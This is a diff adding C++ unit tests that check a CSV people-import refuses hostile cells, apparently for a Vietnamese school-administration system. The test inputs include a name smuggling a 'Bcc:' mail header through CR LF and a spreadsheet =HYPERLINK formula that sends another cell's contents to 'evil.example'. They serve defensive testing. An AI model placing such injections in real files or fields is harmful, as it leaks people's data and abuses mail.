@@ -187,6 +187,59 @@ TEST_F(ImportTest, EmailAddressesAreValidatedAndNothingIsImportedOnError) {
   EXPECT_EQ(std::string(injected.message()).find("\r\nRCPT"), std::string::npos) << injected;
 }
 
+TEST_F(ImportTest, NamesAndOtherCellsAreOneLineOfBoundedLength) {
+  const std::string header = "id,code,full_name,roles,home_unit_id,subject,level,email\n";
+  // A quoted name carrying CR LF and a header (it would reach mail subjects and webhooks),
+  // a tab, a C1 control (U+0085, NEL), and a 1 MB name: each refused at its cell.
+  const absl::Status s = ImportError(
+      bdtx::v1::PEOPLE, "people.csv",
+      header + "p1,,\"Nguyễn Văn A\r\nBcc: intruder@example.test\",mass_teacher,thcs-tanphu,,,\n" +
+          "p2,\"C\t2\",Trần B,mass_teacher,thcs-tanphu,,,\n" +
+          "p3,,Lê C,mass_teacher,thcs-tanphu,\"Toán\xC2\x85\",,\n" + "p4,,\"" +
+          std::string(1 << 20, 'A') + "\",mass_teacher,thcs-tanphu,,,\n");
+  ExpectMentions(s, "people.csv:2:3: the cell holds a line break");
+  ExpectMentions(s, "people.csv:4:2: the cell holds a line break");
+  ExpectMentions(s, "people.csv:5:6: the cell holds a line break");
+  ExpectMentions(s, "people.csv:6:3: the cell is 1048576 characters long, at most 256");
+  EXPECT_EQ(std::string(s.message()).find("Bcc:"), std::string::npos) << s;
+  EXPECT_LT(s.message().size(), 2000u);  // the huge cell is not echoed back
+  // Characters, not bytes: 256 Vietnamese letters (2-3 bytes each) are accepted.
+  std::string name;
+  for (int i = 0; i < 128; ++i) name += "Đặ";
+  auto ok = PlanImport(bdtx::v1::PEOPLE, "people.csv",
+                       header + "p5,," + name + ",mass_teacher,thcs-tanphu,,,\n", dir_);
+  EXPECT_TRUE(ok.ok()) << ok.status();
+  // A huge or multi-line column name is refused, not echoed in a warning.
+  const absl::Status h = ImportError(bdtx::v1::PEOPLE, "people.csv",
+                                     "id,full_name,roles,home_unit_id," + std::string(300000, 'x') +
+                                         "\np6,A,mass_teacher,thcs-tanphu,1\n");
+  ExpectMentions(h, "people.csv:1:5: the cell is 300000 characters long");
+  EXPECT_LT(h.message().size(), 2000u);
+}
+
+TEST_F(ImportTest, NamesThatExcelWouldRunAsFormulasAreRefused) {
+  const std::string header = "id,code,full_name,roles,home_unit_id,subject,level,email\n";
+  const absl::Status s = ImportError(
+      bdtx::v1::PEOPLE, "people.csv",
+      header +
+          "p1,,\"=HYPERLINK(\"\"https://evil.example/?\"\"&H2,\"\"Nguyễn\"\")\",mass_teacher,"
+          "thcs-tanphu,,,\n"
+          "p2,+84,Trần B,mass_teacher,thcs-tanphu,,,\n"
+          "p3,,Lê C,mass_teacher,thcs-tanphu, @SUM(1),,\n"
+          "p4,,-2+3+cmd,mass_teacher,thcs-tanphu,,,\n");
+  ExpectMentions(s, "people.csv:2:3: the cell starts with '='");
+  ExpectMentions(s, "people.csv:3:2: the cell starts with '+'");
+  ExpectMentions(s, "people.csv:4:6: the cell starts with '@'");
+  ExpectMentions(s, "people.csv:5:3: the cell starts with '-'");
+  // Units and classes too; a '-' or '=' inside a name is fine.
+  ExpectMentions(ImportError(bdtx::v1::UNITS, "units.csv",
+                             "id,name,kind,parent_id,university_kind\nu1,=1+1,university,,DHSP\n"),
+                 "units.csv:2:2: the cell starts with '='");
+  auto ok = PlanImport(bdtx::v1::PEOPLE, "people.csv",
+                       header + "p5,,Nguyễn Văn A-B = C,mass_teacher,thcs-tanphu,,,\n", dir_);
+  EXPECT_TRUE(ok.ok()) << ok.status();
+}
+
 TEST_F(ImportTest, SemicolonAndTabFilesAsExcelWritesThem) {
   auto semicolons =
       PlanImport(bdtx::v1::PEOPLE, "people.csv",
